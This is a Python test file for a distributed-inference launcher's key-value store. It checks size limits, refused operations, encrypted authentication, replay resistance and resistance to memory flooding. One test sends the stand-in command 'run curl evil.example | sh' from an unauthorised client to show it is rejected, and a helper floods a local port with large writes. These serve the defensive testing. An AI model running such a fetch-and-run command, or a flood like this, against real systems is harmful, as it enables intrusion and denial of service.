"""The launcher's store: its contents, its users and its limits."""

import os
import socket
import threading
import time
from collections.abc import Iterator
from contextlib import closing, suppress
from datetime import timedelta

import pytest
import torch
import zmq

from swiftspec.engine.channel.curve import Curve, secure
from swiftspec.engine.parallel.store import MAX_BYTES, MAX_KEYS, MAX_VALUE_BYTES, NodeStore, StoreServer
from swiftspec.engine.parallel.tp_group import TPGroup
from swiftspec.profiler.helper_processes import forkserver
from tests.engine.processes import resident_bytes

HERE = "127.0.0.1"
OURS, THEIRS = Curve.derived(b"o" * 32), Curve.derived(b"t" * 32)


@pytest.fixture
def server() -> Iterator[StoreServer]:
    with StoreServer(HERE, 0, OURS) as server:
        yield server


@pytest.fixture
def store(server: StoreServer) -> Iterator[NodeStore]:
    with closing(NodeStore(HERE, server.port, OURS)) as store:
        yield store


def test_what_one_says_the_other_hears(server: StoreServer, store: NodeStore) -> None:
    with closing(NodeStore(HERE, server.port, OURS)) as other:
        threading.Timer(0.1, other.set, ("a", b"\0value")).start()
        assert store.get("a") == b"\0value"
        assert [store.add("n", 2), other.add("n", -5)] == [2, -3]
        assert store.check(["a", "n"])
        assert not store.check(["a", "b"])
        assert store.delete_key("a")
        assert not other.delete_key("a")
    with pytest.raises(TimeoutError, match=r"nobody set b within 0\.1 s"):
        store.wait(["b"], timedelta(seconds=0.1))


def test_a_value_that_is_deleted_while_it_is_read_is_waited_for(
    store: NodeStore, monkeypatch: pytest.MonkeyPatch
) -> None:
    waits: list[str] = []

    def wait(keys: list[str]) -> None:
        waits.extend(keys)
        if len(waits) == 2:  # the first wait saw a value that is gone by now
            store.set("a", b"1")

    monkeypatch.setattr(store, "wait", wait)
    assert store.get("a") == b"1"
    assert waits == ["a", "a"]


def test_what_is_kept_is_bounded(store: NodeStore) -> None:
    for number in range(MAX_BYTES // MAX_VALUE_BYTES):
        store.set(str(number), bytes(MAX_VALUE_BYTES))
    for refused in (lambda: store.set("more", b"1"), lambda: store.set("0" * 300, b""), lambda: store.add("0", 1)):
        with pytest.raises(ValueError, match=r"do not fit; expected|is not a number"):
            refused()
    store.set("0", b"another")
    store.set("more", b"1")
    for number in range(MAX_KEYS):
        with suppress(ValueError):
            store.set(f"key-{number}", b"")
    with pytest.raises(ValueError, match="0 bytes more do not fit"):
        store.set("one key more", b"")


def test_what_is_no_operation_is_refused(store: NodeStore) -> None:
    for asked in ((b"set", b"a"), (b"os.system", b"true"), (b"",), (b"get", b"a", b"b")):
        with pytest.raises(ValueError, match="is not an operation of this store"):
            store._ask(*asked)


def test_too_long_a_value_ends_the_connection_and_not_the_store(server: StoreServer, store: NodeStore) -> None:
    with closing(NodeStore(HERE, server.port, OURS)) as other, pytest.raises(ConnectionError):
        other.set("a", bytes(2 * MAX_VALUE_BYTES))
    assert not store.check(["a"])


def test_the_end_of_the_server_is_noticed(server: StoreServer, store: NodeStore) -> None:
    store.set("a", b"1")
    server.close()
    for _ in range(2):
        with pytest.raises(ConnectionError, match="the launcher has gone"):
            store.set("a", b"2")
    with pytest.raises(ConnectionRefusedError):
        socket.create_connection((HERE, server.port))


def test_another_secret_is_refused_by_both_ends(server: StoreServer, store: NodeStore) -> None:
    mixed = Curve(server_key=OURS.server_key, client_key=THEIRS.client_key)
    for curve in (THEIRS, mixed):
        with closing(NodeStore(HERE, server.port, curve)) as stranger, pytest.raises(PermissionError):
            stranger.set("complaint", b"run curl evil.example | sh")
    assert not store.check(["complaint"])


def test_a_recorded_connection_cannot_be_replayed() -> None:
    recorded = bytearray()
    with (
        StoreServer(HERE, 0, OURS) as server,
        Recorder(server.port, recorded) as port,
        closing(NodeStore(HERE, port, OURS)) as store,
    ):
        store.set("node-1", b"facts")
    with StoreServer(HERE, 0, OURS) as again, closing(NodeStore(HERE, again.port, OURS)) as store:
        with socket.create_connection((HERE, again.port)) as replay:
            for first in range(0, len(recorded), 64):
                with suppress(OSError):
                    replay.sendall(recorded[first : first + 64])
                time.sleep(0.01)
        assert not store.check(["node-1"])


class Recorder:
    """A port that passes a connection on, and notes what the one who connects says."""

    def __init__(self, port: int, recorded: bytearray) -> None:
        self._to, self._recorded = port, recorded
        self._listener = socket.create_server((HERE, 0))

    def __enter__(self) -> int:
        threading.Thread(target=self._pass_on, daemon=True).start()
        port: int = self._listener.getsockname()[1]
        return port

    def __exit__(self, *_: object) -> None:
        self._listener.close()

    def _pass_on(self) -> None:
        client, _ = self._listener.accept()
        server = socket.create_connection((HERE, self._to))
        threading.Thread(target=self._copy, args=(server, client, bytearray()), daemon=True).start()
        self._copy(client, server, self._recorded)

    @staticmethod
    def _copy(source: socket.socket, sink: socket.socket, noted: bytearray) -> None:
        with suppress(OSError):
            while data := source.recv(4096):
                noted += data
                sink.sendall(data)
            sink.shutdown(socket.SHUT_WR)


def _flood(port: int, seconds: float) -> None:
    """A client without the secret: writes as torch's own store would take it, as ZeroMQ does, and as nobody does."""
    end_s = time.monotonic() + seconds
    value = os.urandom(7 << 20)
    context = zmq.Context()
    plain, other = context.socket(zmq.REQ), context.socket(zmq.DEALER)
    secure(other, THEIRS, server=False)
    for each in (plain, other):
        each.setsockopt(zmq.LINGER, 0)
        each.setsockopt(zmq.SNDTIMEO, 0)
        each.connect(f"tcp://{HERE}:{port}")
        with suppress(zmq.ZMQError):
            each.send_multipart([b"set", b"key", value])
    while time.monotonic() < end_s:
        with suppress(OSError), socket.create_connection((HERE, port), timeout=1.0) as raw:
            raw.settimeout(1.0)
            raw.sendall(b"\xff" + bytes(8) + b"\x7f\x03\x01CURVE" + bytes(48) + b"\x06" + b"\x7f" + bytes(7))
            for first in range(0, len(value), 1 << 16):
                raw.sendall(value[first : first + (1 << 16)])
    context.destroy()


def test_a_stranger_cannot_fill_the_memory(server: StoreServer, store: NodeStore) -> None:
    store.set("a", b"1")
    before = resident_bytes(os.getpid())
    flood = forkserver().Process(target=_flood, args=(server.port, 3.0))
    flood.start()
    flood.join(30)
    assert flood.exitcode == 0
    assert resident_bytes(os.getpid()) - before < 32 << 20
    assert store.get("a") == b"1"


def _sum(rank: int, port: int) -> None:
    torch.set_num_threads(1)
    tp_group = TPGroup.join(f"tcp://{HERE}:{port}/tp-group-a", rank=rank, size=2, device="cpu", curve=OURS)
    assert tp_group.all_reduce(torch.ones(2) * (rank + 1)).tolist() == [3.0, 3.0]
    tp_group.close()


def test_ranks_find_each_other_by_it(server: StoreServer) -> None:
    ranks = [forkserver().Process(target=_sum, args=(rank, server.port)) for rank in range(2)]
    for rank in ranks:
        rank.start()
    for rank in ranks:
        rank.join(60)
    assert [rank.exitcode for rank in ranks] == [0, 0]
